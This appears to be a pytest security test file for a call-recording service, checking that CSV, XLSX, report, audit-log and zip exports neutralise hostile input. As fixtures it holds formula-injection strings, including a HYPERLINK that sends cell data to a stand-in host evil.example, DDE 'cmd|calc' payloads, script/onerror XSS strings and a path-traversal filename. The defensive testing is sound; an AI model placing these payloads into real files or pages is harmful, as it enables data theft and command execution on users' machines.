"""Formulas that strangers put where a table will be made: none of them runs in a spreadsheet."""

import csv
import io
import json
import re
import zipfile
from dataclasses import replace

import pytest
from openpyxl import load_workbook

from fakes import says
from huiting.core.analysis import Analysis
from huiting.service.exporting import formats
from huiting.service.people.log_export import LogFormat, written
from huiting.store.audit import Action, Audit, Entry
from served import Served, refund

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
STARTS = (
    EVIL,
    "+1+cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    " =1",
)
RUNS = re.compile(r"\s*[=+\-@＝＋－＠]")
NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")


def evil() -> Analysis:
    """Return a call in which every text that a stranger can set is a formula."""
    made = refund()
    said = tuple(
        says(one.role, one.span.start, one.span.end, STARTS[n % len(STARTS)].strip())
        for n, one in enumerate(made.call.segments)
    )
    recording = replace(
        made.call.recording,
        path=f"/calls/{EVIL[:12]}.wav",
        metadata={"agent": EVIL, "team": "@SUM(A1)", "=name()": "+1+1", "phone": "-1+1"},
    )
    return replace(made, call=replace(made.call, recording=recording, segments=said))


def check_csv(text: str) -> int:
    """Fail where a cell would run; return how many cells there are."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    runs = [cell for cell in cells if RUNS.match(cell) and not NUMBER.fullmatch(cell)]
    assert not runs
    return len(cells)


def fetched(served: Served, form: str) -> bytes:
    made = served.web.post("/api/v1/exports", json={"form": form, "unredacted": True})
    served.work()
    return served.web.get(f"/api/v1/exports/{made.json()['id']}/file").content


def test_no_cell_of_a_set_of_calls_runs_as_csv(served: Served) -> None:
    served.save(evil())
    text = fetched(served, "csv").decode("utf-8-sig")

    assert "'=HYPERLINK" in text.replace('"', "")
    assert check_csv(text) > 10


def test_no_cell_of_a_set_of_calls_runs_in_excel(served: Served) -> None:
    served.save(evil())
    book = load_workbook(io.BytesIO(fetched(served, "xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]

    assert any(str(cell.value).lstrip("'").startswith("=HYPERLINK") for cell in cells)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [cell.coordinate for cell in cells if cell.hyperlink]


@pytest.mark.parametrize("kind", [kind for kind in formats() if kind in {"csv", "xlsx"}])
def test_no_cell_of_a_call_runs(served: Served, kind: str) -> None:
    call = served.save(evil())
    url = f"/api/v1/calls/{call}/export?format={kind}&unredacted=true"
    content = served.web.get(url).content

    if kind == "csv":
        assert check_csv(content.decode("utf-8-sig")) > 10
    else:
        book = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        assert len(cells) > 10


@pytest.mark.parametrize(
    "report",
    ["day?", "causes?", "words?", "agents?", "trends?measure=duration&step=day&by=agent&"],
)
def test_no_cell_of_a_report_runs(served: Served, report: str) -> None:
    served.save(evil())
    url = f"/api/v1/reports/{report}format=xlsx&since=2025-03-12&unredacted=true"
    book = load_workbook(io.BytesIO(served.web.get(url).content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]

    assert cells
    assert not [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink]


def test_no_cell_of_the_audit_log_runs(served: Served) -> None:
    audit = Audit(served.parts.store.database, served.clock)
    audit.note(None, Entry("user:1", EVIL, Action.SAW, "@SUM(1)", "+1", detail={"kind": "-1+1"}))

    assert check_csv("".join(written(audit.read(), LogFormat.CSV))) > 10


def test_a_page_of_a_call_holds_no_script_of_a_stranger(served: Served) -> None:
    made = evil()
    script = "<script>alert(1)</script><img src=x onerror=alert(1)>"
    said = tuple(says(one.role, one.span.start, one.span.end, script) for one in made.call.segments)
    told = replace(made.call.recording, metadata={"agent": script, script: script})
    call = served.save(replace(made, call=replace(made.call, segments=said, recording=told)))
    for kind in formats():
        url = f"/api/v1/calls/{call}/export?format={kind}&unredacted=true"
        answer = served.web.get(url)
        shown = answer.headers["content-type"].startswith(("text/html", "image/svg"))
        assert answer.headers["content-disposition"].startswith("attachment"), kind
        assert answer.headers["x-content-type-options"] == "nosniff", kind
        assert not shown or ("<script>alert" not in answer.text and "<img" not in answer.text), kind


def test_names_in_an_archive_lead_nowhere(served: Served) -> None:
    made = refund()
    path = replace(made.call.recording, path="/calls/../../\u202eevil\r\n.wav")
    served.save(replace(made, call=replace(made.call, recording=path)))
    ask = {"form": "zip", "formats": ["json"], "unredacted": True}
    order = served.web.post("/api/v1/exports", json=ask).json()
    served.work()
    content = served.web.get(f"/api/v1/exports/{order['id']}/file").content
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        texts = [json.loads(archive.read(n)) for n in names if n.endswith(".json")]

    assert texts
    assert all(".." not in name.split("/") and name.isprintable() for name in names)
    assert not any(name.startswith("/") or "\\" in name for name in names)
